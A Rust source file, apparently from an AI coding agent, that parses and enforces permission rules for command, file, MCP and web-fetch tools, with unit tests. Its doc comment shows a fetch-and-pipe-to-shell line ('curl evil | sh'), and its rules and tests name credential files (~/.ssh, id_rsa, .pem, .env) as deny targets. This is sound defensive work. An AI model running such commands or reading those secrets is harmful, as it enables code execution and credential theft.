//! Permission rules: `allow` and `deny` lists from the config's `[permissions]` table and the `--allow`/`--deny`
//! flags.
//!
//! A rule is a tool name (`run`, `read_file`, or the families `Run`, `Read`, `Edit`, which cover tools by what
//! they are: tools that run a command line, reading and searching tools, editing tools) optionally followed by a
//! pattern in parentheses: `Run(cargo test*)`, `Run(git push:*)`, `Edit(**/.env)`, `Read(~/.ssh/**)`. Deny always
//! wins over allow. A `Run` allow rule approves a command line only when every command in it (as the guard
//! sees them, wrappers and nested shells included) is covered, so `Run(cargo test*)` does not approve
//! `cargo test && curl evil | sh`.
//!
//! `WebFetch(domain:<host>)` covers `web_fetch` calls to that host (`domain:*.example.com`: its subdomains too);
//! an allow rule is also what lets `web_fetch` reach a loopback, link-local or private address.
//!
//! `Mcp(<server>/<tool>)` covers tools of MCP servers by the names the user configured (not the sanitised names
//! the model sees); `*` matches any run of characters in either part: `Mcp(git/*)`, `Mcp(*/search_*)`,
//! `Mcp(github/create_issue)`. A bare `Mcp` covers every MCP tool.

use std::path::Path;

use super::call::{Action, Call, Kind};

/// The error returned by [`Rule::parse()`].
#[derive(Debug, thiserror::Error)]
pub enum RuleError {
    #[error("invalid permission rule '{0}': expected a tool name, optionally with a pattern: Run(cargo test*), Edit(**/.env), read_file")]
    Syntax(String),
    #[error("invalid permission rule '{rule}': unknown tool '{tool}' (known: Run, Read, Edit, Mcp, WebFetch, run, read_file, list_files, search, edit_file, write_file, web_fetch)")]
    UnknownTool { rule: String, tool: String },
    #[error("invalid permission rule '{0}': expected WebFetch(domain:<host>), e.g. WebFetch(domain:docs.rs) or WebFetch(domain:*.example.com)")]
    Domain(String),
}

/// What a rule is about.
#[derive(Clone, Debug, PartialEq, Eq)]
enum Family {
    /// `run` commands; the pattern matches each command.
    Run,
    /// Reading tools; the pattern matches the path.
    Read,
    /// Writing tools; the pattern matches the path.
    Edit,
    /// One tool by its exact name; a pattern, if any, matches its `path` argument.
    Tool(String),
    /// Tools of MCP servers; the pattern matches `<server>/<tool>`.
    Mcp,
    /// `web_fetch`; the pattern (`domain:<host>`) matches the host of each URL it fetches.
    WebFetch,
}

/// One parsed rule.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Rule {
    /// The rule as written, for audit records and messages.
    pub text: String,
    family: Family,
    pattern: Option<String>,
}

const TOOLS: &[&str] = &[
    "run",
    "read_file",
    "list_files",
    "search",
    "edit_file",
    "write_file",
    "web_fetch",
];

impl Rule {
    pub fn parse(text: &str) -> Result<Rule, RuleError> {
        let text = text.trim();
        let (name, pattern) = match text.split_once('(') {
            Some((name, rest)) => {
                let pattern = rest
                    .strip_suffix(')')
                    .ok_or_else(|| RuleError::Syntax(text.to_string()))?;
                (name.trim(), Some(pattern.trim().to_string()))
            }
            None => (text, None),
        };
        if name.is_empty() || pattern.as_deref() == Some("") {
            return Err(RuleError::Syntax(text.to_string()));
        }
        let family = match name {
            "Run" | "Bash" | "Shell" => Family::Run,
            "Read" => Family::Read,
            "Edit" | "Write" => Family::Edit,
            "Mcp" | "MCP" => Family::Mcp,
            "WebFetch" => Family::WebFetch,
            tool if TOOLS.contains(&tool) => Family::Tool(tool.to_string()),
            tool => {
                return Err(RuleError::UnknownTool {
                    rule: text.to_string(),
                    tool: tool.to_string(),
                })
            }
        };
        if family == Family::WebFetch {
            check_domain_pattern(text, pattern.as_deref())?;
        }
        Ok(Rule {
            text: text.to_string(),
            family,
            pattern,
        })
    }

    /// Whether the rule is about this call's tool: `Run` covers tools that run a command line, `Read` reading
    /// and searching tools, `Edit` editing ones, a tool name that tool.
    fn covers_tool(&self, call: &Call<'_>) -> bool {
        match &self.family {
            Family::Run => matches!(call.action, Action::Command(_)),
            Family::Read => call.kind == Kind::Read,
            Family::Edit => call.kind == Kind::Edit,
            Family::Tool(name) => name == call.tool,
            Family::Mcp => matches!(call.action, Action::Mcp { .. }),
            Family::WebFetch => call.tool == WEB_FETCH,
        }
    }

    /// Whether this rule covers the MCP call `call` (server and tool as configured).
    pub fn covers_mcp(&self, call: &Call<'_>) -> bool {
        let Action::Mcp { server, tool, .. } = call.action else {
            return false;
        };
        if self.family != Family::Mcp {
            return false;
        }
        let Some(pattern) = &self.pattern else {
            return true;
        };
        // `server` alone means all its tools.
        let (want_server, want_tool) = pattern.split_once('/').unwrap_or((pattern, "*"));
        wildcard(want_server.as_bytes(), server.as_bytes())
            && wildcard(want_tool.as_bytes(), tool.as_bytes())
    }

    /// Whether this rule covers one command of the command line of `call`.
    pub fn covers_command(&self, call: &Call<'_>, command: &str) -> bool {
        if !self.covers_tool(call) {
            return false;
        }
        match &self.pattern {
            None => true,
            Some(p) => command_matches(p, command),
        }
    }

    /// Whether this rule covers a file tool's `call` on `rel` (checkout-relative) / `abs`.
    pub fn covers_path(
        &self,
        call: &Call<'_>,
        rel: &Path,
        abs: &Path,
        home: Option<&Path>,
    ) -> bool {
        if !self.covers_tool(call) || matches!(call.action, Action::Command(_)) {
            return false;
        }
        let Some(p) = &self.pattern else { return true };
        let pattern = match (p.strip_prefix("~/"), home) {
            (Some(rest), Some(home)) => format!("{}/{rest}", home.display()),
            _ => p.clone(),
        };
        let rel = rel.to_string_lossy();
        let abs = abs.to_string_lossy();
        if pattern.starts_with('/') {
            return glob_matches(&pattern, &abs);
        }
        if !pattern.contains('/') {
            // Like .gitignore: a pattern without a slash matches the file name at any depth.
            let name = rel.rsplit('/').next().unwrap_or(&rel);
            return glob_matches(&pattern, name);
        }
        glob_matches(&pattern, &rel)
    }

    /// A bare tool rule (`run`, `Edit`) without a pattern.
    pub fn is_bare(&self) -> bool {
        self.pattern.is_none()
    }
}

/// The tool `WebFetch(...)` rules are about.
const WEB_FETCH: &str = "web_fetch";

/// A `WebFetch` rule's pattern must be `domain:<host>`, the host a name or `*.` and a name.
fn check_domain_pattern(text: &str, pattern: Option<&str>) -> Result<(), RuleError> {
    let Some(pattern) = pattern else {
        return Ok(());
    };
    let host = pattern.strip_prefix("domain:").map(str::trim);
    let name = host.map(|h| h.strip_prefix("*.").unwrap_or(h));
    match name {
        Some(name) if !name.is_empty() && !name.contains(['*', '/', ' ']) => Ok(()),
        _ => Err(RuleError::Domain(text.to_string())),
    }
}

impl Rule {
    /// Whether this `WebFetch` rule covers a fetch from `host`: `domain:docs.rs` that host, `domain:*.docs.rs`
    /// its subdomains and itself; a bare `WebFetch` every host. Hosts compare without case.
    pub fn covers_domain(&self, host: &str) -> bool {
        if self.family != Family::WebFetch {
            return false;
        }
        let Some(pattern) = &self.pattern else {
            return true;
        };
        let want = pattern
            .trim_start_matches("domain:")
            .trim()
            .to_ascii_lowercase();
        let host = host.trim_end_matches('.').to_ascii_lowercase();
        match want.strip_prefix("*.") {
            Some(parent) => host == parent || host.ends_with(&format!(".{parent}")),
            None => host == want,
        }
    }
}

impl Rules {
    /// The first deny rule covering a fetch from `host` (deny wins over any allow).
    pub fn deny_domain(&self, host: &str) -> Option<&Rule> {
        self.deny.iter().find(|r| r.covers_domain(host))
    }

    /// The first allow rule covering a fetch from `host`.
    pub fn allow_domain(&self, host: &str) -> Option<&Rule> {
        self.allow.iter().find(|r| r.covers_domain(host))
    }
}

/// The allow and deny lists.
#[derive(Clone, Debug, Default)]
pub struct Rules {
    pub allow: Vec<Rule>,
    pub deny: Vec<Rule>,
}

impl Rules {
    /// Builds the lists from config values and flags (config first, flags after; order does not matter for
    /// the outcome since deny wins).
    pub fn from_lists<S: AsRef<str>>(allow: &[S], deny: &[S]) -> Result<Rules, RuleError> {
        Ok(Rules {
            allow: allow
                .iter()
                .map(|r| Rule::parse(r.as_ref()))
                .collect::<Result<_, _>>()?,
            deny: deny
                .iter()
                .map(|r| Rule::parse(r.as_ref()))
                .collect::<Result<_, _>>()?,
        })
    }

    /// Adds more rules (e.g. flags on top of the config).
    pub fn extend(&mut self, other: Rules) {
        self.allow.extend(other.allow);
        self.deny.extend(other.deny);
    }

    /// The first bare deny rule covering the call's tool.
    pub fn deny_tool(&self, call: &Call<'_>) -> Option<&Rule> {
        self.deny
            .iter()
            .find(|r| r.is_bare() && r.covers_tool(call))
    }

    /// The first deny rule covering any command of `call`'s command line.
    pub fn deny_commands<'a>(
        &'a self,
        call: &Call<'_>,
        commands: &'a [String],
    ) -> Option<(&'a Rule, &'a str)> {
        commands.iter().find_map(|c| {
            self.deny
                .iter()
                .find(|r| !r.is_bare() && r.covers_command(call, c))
                .map(|r| (r, c.as_str()))
        })
    }

    /// The allow rules that cover every command of a `run` line (one per command), or `None` if any command is
    /// not covered. A line without commands (only assignments) is covered by nothing.
    pub fn allow_commands(&self, call: &Call<'_>, commands: &[String]) -> Option<Vec<&Rule>> {
        if commands.is_empty() {
            return None;
        }
        commands
            .iter()
            .map(|c| self.allow.iter().find(|r| r.covers_command(call, c)))
            .collect()
    }

    /// The first deny rule with a pattern covering an MCP call.
    pub fn deny_mcp(&self, call: &Call<'_>) -> Option<&Rule> {
        self.deny
            .iter()
            .find(|r| !r.is_bare() && r.covers_mcp(call))
    }

    /// The first allow rule covering an MCP call.
    pub fn allow_mcp(&self, call: &Call<'_>) -> Option<&Rule> {
        self.allow.iter().find(|r| r.covers_mcp(call))
    }

    pub fn deny_path(
        &self,
        call: &Call<'_>,
        rel: &Path,
        abs: &Path,
        home: Option<&Path>,
    ) -> Option<&Rule> {
        self.deny
            .iter()
            .find(|r| !r.is_bare() && r.covers_path(call, rel, abs, home))
    }

    pub fn allow_path(
        &self,
        call: &Call<'_>,
        rel: &Path,
        abs: &Path,
        home: Option<&Path>,
    ) -> Option<&Rule> {
        self.allow
            .iter()
            .find(|r| r.covers_path(call, rel, abs, home))
    }
}

/// `git push:*` means "git push" alone or followed by arguments; otherwise `*` is a wildcard and anything
/// else must match exactly.
fn command_matches(pattern: &str, command: &str) -> bool {
    let command = command.trim();
    if let Some(prefix) = pattern.strip_suffix(":*") {
        let prefix = prefix.trim();
        return command == prefix
            || command
                .strip_prefix(prefix)
                .is_some_and(|rest| rest.starts_with(' '));
    }
    wildcard(pattern.as_bytes(), command.as_bytes())
}

/// Glob over paths: `**` crosses directories (and `**/` may match nothing), `*` and `?` do not cross `/`.
pub fn glob_matches(pattern: &str, path: &str) -> bool {
    Glob::new(pattern.as_bytes(), path.as_bytes()).at(0, 0)
}

/// The path glob, memoised on (pattern position, path position) so that each pair is decided once: a
/// backtracking matcher took exponential time on patterns with several stars (issue 23, finding 18).
struct Glob<'a> {
    p: &'a [u8],
    s: &'a [u8],
    memo: Vec<Option<bool>>,
}

impl<'a> Glob<'a> {
    fn new(p: &'a [u8], s: &'a [u8]) -> Self {
        let memo = vec![None; (p.len() + 1) * (s.len() + 1)];
        Glob { p, s, memo }
    }

    fn at(&mut self, pi: usize, si: usize) -> bool {
        let key = pi * (self.s.len() + 1) + si;
        if let Some(known) = self.memo[key] {
            return known;
        }
        let result = self.decide(pi, si);
        self.memo[key] = Some(result);
        result
    }

    fn decide(&mut self, pi: usize, si: usize) -> bool {
        let (p, s) = (&self.p[pi..], &self.s[si..]);
        if p.starts_with(b"**/") {
            return self.at(pi + 3, si)
                || (si..self.s.len()).any(|i| self.s[i] == b'/' && self.at(pi + 3, i + 1));
        }
        if p.starts_with(b"**") {
            return (si..=self.s.len()).any(|i| self.at(pi + 2, i));
        }
        match (p.first(), s.first()) {
            (None, None) => true,
            (Some(b'*'), _) => (si..=self.s.len())
                .take_while(|&i| i == si || self.s[i - 1] != b'/')
                .any(|i| self.at(pi + 1, i)),
            (Some(b'?'), Some(c)) if *c != b'/' => self.at(pi + 1, si + 1),
            (Some(a), Some(b)) if a == b => self.at(pi + 1, si + 1),
            _ => false,
        }
    }
}

/// `*` matches any run of characters (spaces and slashes included) in command patterns. Two pointers with
/// one backtrack point, linear in practice and O(p*s) at worst: the recursive matcher this replaces took
/// seconds on five stars against a 200-character command (issue 23, finding 18).
fn wildcard(p: &[u8], s: &[u8]) -> bool {
    let (mut pi, mut si) = (0, 0);
    // The last star seen and the subject position its run currently ends at.
    let mut star: Option<(usize, usize)> = None;
    while si < s.len() {
        if pi < p.len() && p[pi] == b'*' {
            star = Some((pi, si));
            pi += 1;
        } else if pi < p.len() && p[pi] == s[si] {
            pi += 1;
            si += 1;
        } else if let Some((star_pi, star_si)) = star {
            pi = star_pi + 1;
            si = star_si + 1;
            star = Some((star_pi, star_si + 1));
        } else {
            return false;
        }
    }
    p[pi..].iter().all(|&c| c == b'*')
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(allow: &[&str], deny: &[&str]) -> Rules {
        Rules::from_lists(allow, deny).unwrap()
    }

    const RUN: Call<'static> = Call {
        tool: "run",
        kind: Kind::Other,
        action: Action::Command(""),
    };

    /// A file tool's call, as the tool describes itself.
    fn file(tool: &str) -> Call<'_> {
        let kind = match tool {
            "read_file" | "search" | "list_files" => Kind::Read,
            _ => Kind::Edit,
        };
        Call {
            tool,
            kind,
            action: Action::Path(""),
        }
    }

    fn cmds(list: &[&str]) -> Vec<String> {
        list.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn parse_errors_name_the_rule() {
        assert!(Rule::parse("Run(cargo")
            .unwrap_err()
            .to_string()
            .contains("'Run(cargo'"));
        assert!(Rule::parse("Frobnicate(x)")
            .unwrap_err()
            .to_string()
            .contains("unknown tool 'Frobnicate'"));
        assert!(Rule::parse("Run()").is_err());
        assert!(Rule::parse("read_file").unwrap().is_bare());
    }

    #[test]
    fn run_patterns() {
        let r = Rule::parse("Run(cargo test*)").unwrap();
        assert!(r.covers_command(&RUN, "cargo test"));
        assert!(r.covers_command(&RUN, "cargo test --all -- --nocapture"));
        assert!(!r.covers_command(&RUN, "cargo build"));
        let r = Rule::parse("Run(git push:*)").unwrap();
        assert!(r.covers_command(&RUN, "git push"));
        assert!(r.covers_command(&RUN, "git push origin main"));
        assert!(!r.covers_command(&RUN, "git pushy"));
        let r = Rule::parse("Run(make)").unwrap();
        assert!(r.covers_command(&RUN, "make"));
        assert!(!r.covers_command(&RUN, "make install"));
    }

    #[test]
    fn allow_needs_every_command_covered_and_deny_wins() {
        let rs = rules(&["Run(cargo test*)", "Run(ls:*)"], &["Run(git push:*)"]);
        assert!(rs
            .allow_commands(&RUN, &cmds(&["cargo test", "ls -la"]))
            .is_some());
        assert!(rs
            .allow_commands(&RUN, &cmds(&["cargo test", "curl x"]))
            .is_none());
        assert!(rs.allow_commands(&RUN, &[]).is_none());
        let line = cmds(&["ls", "git push origin x"]);
        let (rule, cmd) = rs.deny_commands(&RUN, &line).unwrap();
        assert_eq!(
            (rule.text.as_str(), cmd),
            ("Run(git push:*)", "git push origin x")
        );
        let bare = rules(&[], &["run"]);
        assert!(bare.deny_tool(&RUN).is_some());
        assert!(bare.deny_tool(&file("read_file")).is_none());
    }

    #[test]
    fn path_patterns() {
        let home = Path::new("/home/u");
        let edit_env = Rule::parse("Edit(**/.env)").unwrap();
        assert!(edit_env.covers_path(
            &file("write_file"),
            Path::new(".env"),
            Path::new("/r/.env"),
            Some(home)
        ));
        assert!(edit_env.covers_path(
            &file("edit_file"),
            Path::new("a/b/.env"),
            Path::new("/r/a/b/.env"),
            Some(home)
        ));
        assert!(!edit_env.covers_path(
            &file("read_file"),
            Path::new(".env"),
            Path::new("/r/.env"),
            Some(home)
        ));
        assert!(!edit_env.covers_path(
            &file("edit_file"),
            Path::new(".envrc"),
            Path::new("/r/.envrc"),
            Some(home)
        ));
        let ssh = Rule::parse("Read(~/.ssh/**)").unwrap();
        assert!(ssh.covers_path(
            &file("read_file"),
            Path::new("x"),
            Path::new("/home/u/.ssh/id_rsa"),
            Some(home)
        ));
        assert!(!ssh.covers_path(
            &file("read_file"),
            Path::new("x"),
            Path::new("/home/v/.ssh/id_rsa"),
            Some(home)
        ));
        let pem = Rule::parse("Read(*.pem)").unwrap();
        assert!(pem.covers_path(
            &file("search"),
            Path::new("certs/a.pem"),
            Path::new("/r/certs/a.pem"),
            None
        ));
        let src = Rule::parse("Edit(src/*.rs)").unwrap();
        assert!(src.covers_path(
            &file("edit_file"),
            Path::new("src/a.rs"),
            Path::new("/r/src/a.rs"),
            None
        ));
        assert!(!src.covers_path(
            &file("edit_file"),
            Path::new("src/x/a.rs"),
            Path::new("/r/src/x/a.rs"),
            None
        ));
    }

    #[test]
    fn wildcard_semantics() {
        assert!(wildcard(b"", b""));
        assert!(!wildcard(b"", b"a"));
        assert!(wildcard(b"*", b""));
        assert!(wildcard(b"**", b"anything / at all"));
        assert!(wildcard(b"a*c", b"abbbc"));
        assert!(wildcard(b"a*c", b"ac"));
        assert!(!wildcard(b"a*c", b"acb"));
        assert!(wildcard(b"*a*b", b"xxaxxbxab"));
        assert!(!wildcard(b"*a*b", b"xxaxxbxa"));
        assert!(wildcard(b"npm run *:*", b"npm run test:unit"));
        assert!(!wildcard(b"make", b"make install"));
    }

    #[test]
    fn glob_semantics() {
        assert!(glob_matches("**/.env", ".env"));
        assert!(glob_matches("**/.env", "a/b/.env"));
        assert!(!glob_matches("**/.env", "a/b.env"));
        assert!(glob_matches("src/**", "src/a/b.rs"));
        assert!(glob_matches("src/**/*.rs", "src/a.rs"));
        assert!(glob_matches("src/**/*.rs", "src/x/y/a.rs"));
        assert!(!glob_matches("src/*.rs", "src/x/a.rs"));
        assert!(glob_matches("?.txt", "a.txt"));
        assert!(!glob_matches("?.txt", "/.txt"));
        assert!(!glob_matches("*", "a/b"));
    }

    /// Five stars against a 200-character command that does not match took 8.7 s with the backtracking
    /// matcher (issue 23, finding 18); the same for paths with `*` and `**`.
    #[test]
    fn many_stars_do_not_take_exponential_time() {
        let command = "a".repeat(200);
        let start = std::time::Instant::now();
        assert!(!command_matches("*a*a*a*a*a*b", &command));
        assert!(!command_matches("*a*a*a*a*a*b*", &format!("{command}c")));
        let path = format!("{}/x", "a".repeat(200));
        assert!(!glob_matches("**a**a**a**a**a**b", &path));
        assert!(!glob_matches("*a*a*a*a*a*b", &command));
        let elapsed = start.elapsed();
        assert!(
            elapsed < std::time::Duration::from_millis(100),
            "took {elapsed:?}"
        );
    }
}

#[cfg(test)]
mod domain_tests {
    use super::*;

    #[test]
    fn web_fetch_rules_match_hosts_and_deny_wins() {
        let rules = Rules::from_lists(
            &[
                "WebFetch(domain:*.example.com)",
                "WebFetch(domain:127.0.0.1)",
            ],
            &["WebFetch(domain:evil.example.com)"],
        )
        .unwrap();
        assert!(rules.allow_domain("docs.example.com").is_some());
        assert!(rules.allow_domain("EXAMPLE.com").is_some());
        assert!(rules.allow_domain("example.org").is_none());
        assert!(rules.allow_domain("badexample.com").is_none());
        assert!(rules.allow_domain("127.0.0.1").is_some());
        assert_eq!(
            rules
                .deny_domain("evil.example.com")
                .map(|r| r.text.as_str()),
            Some("WebFetch(domain:evil.example.com)")
        );
        for bad in [
            "WebFetch(docs.rs)",
            "WebFetch(domain:)",
            "WebFetch(domain:a*b)",
        ] {
            assert!(
                matches!(Rule::parse(bad), Err(RuleError::Domain(_))),
                "{bad}"
            );
        }
        assert!(Rule::parse("WebFetch").unwrap().covers_domain("any.host"));
    }
}
